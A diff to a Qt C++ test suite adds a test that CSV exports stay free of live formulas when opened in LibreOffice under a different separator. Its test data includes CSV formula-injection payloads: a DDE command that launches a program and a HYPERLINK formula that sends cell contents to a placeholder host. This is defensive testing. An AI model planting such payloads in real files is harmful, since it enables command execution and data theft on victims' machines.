@@ -61,6 +61,8 @@ private Q_SLOTS:
     void withoutGuardsTheFileIsDamaged();
     void everyTextIsShownAsItWasSent_data();
     void everyTextIsShownAsItWasSent();
+    void noPieceOfATextIsAFormulaUnderAnotherSeparator_data();
+    void noPieceOfATextIsAFormulaUnderAnotherSeparator();
     void aLongTextIsCutMarkedAndCounted();
 
 private:
@@ -222,6 +224,56 @@ void TestSpreadsheet::everyTextIsShownAsItWasSent()
     }
     const QByteArray list = QByteArray::number(wrong.size()) + " cells:\n" + wrong.mid(0, 60).join('\n');
     QVERIFY2(wrong.isEmpty(), list.constData());
+}
+
+void TestSpreadsheet::noPieceOfATextIsAFormulaUnderAnotherSeparator_data()
+{
+    QTest::addColumn<char>("separator");
+    QTest::addColumn<char>("openedWith");
+    QTest::newRow("semicolons opened as commas") << ';' << ',';
+    QTest::newRow("commas opened as semicolons") << ',' << ';';
+    QTest::newRow("semicolons opened as tabs") << ';' << '\t';
+    QTest::newRow("commas opened as tabs") << ',' << '\t';
+}
+
+// Under another separator the quotes of most cells are not at the beginning of one, and then they do not hold
+// their texts together. Only what begins with "=" shows here: to LibreOffice, a plus, a minus and an at sign
+// in a file begin no formula.
+void TestSpreadsheet::noPieceOfATextIsAFormulaUnderAnotherSeparator()
+{
+    QFETCH(const char, separator);
+    QFETCH(const char, openedWith);
+    Scenario scenario;
+    scenario.messages = 1;
+    Behaviour behaviour;
+    int number = 0;
+    for (const char* const before :
+         {"", "hola,", "hola;", "hola\t", "hola\n", "hola\r", "hola, ", "dijo \"hola\",", "hola,\"",
+          "hola;\"", "hola,\"\"", "\",", "\";", "\"\n", "hola,'", "a,b;c\td\n"}) {
+        for (const char* const piece : {"=1+1", "=HYPERLINK(\"http://a.example/\"&A1,\"x\")",
+                                        "=cmd|'/C calc'!A0", "=1+1,=2+2;=3+3\n=4+4"}) {
+            behaviour.extraElements.push_back(elementWith(number++, text(before) + text(piece)));
+        }
+    }
+    Server server(scenario, behaviour);
+    QVERIFY(server.start());
+    const auto formulas = [&](bool guard) {
+        ExportRun run(server.baseUrl());
+        run.format.format = Format::CsvExcel;
+        run.format.separator = separator;
+        run.format.guard = guard;
+        run.run();
+        m_household->write(text("other.csv"), run.fileContent());
+        qsizetype count = 0;
+        const Sheet sheet = m_office->opened(text("other.csv"), {openedWith, kEnglish}).value_or(Sheet());
+        for (const QList<Cell>& row : sheet) {
+            count += std::count_if(row.begin(), row.end(), [](const Cell& cell) { return cell.isFormula; });
+        }
+        return sheet.size() > number ? count : -1;
+    };
+    const qsizetype without = formulas(false);
+    QVERIFY2(without > 20, QByteArray::number(without).constData()); // else the next line would prove nothing
+    QCOMPARE(formulas(true), 0);
 }
 
 void TestSpreadsheet::aLongTextIsCutMarkedAndCounted()
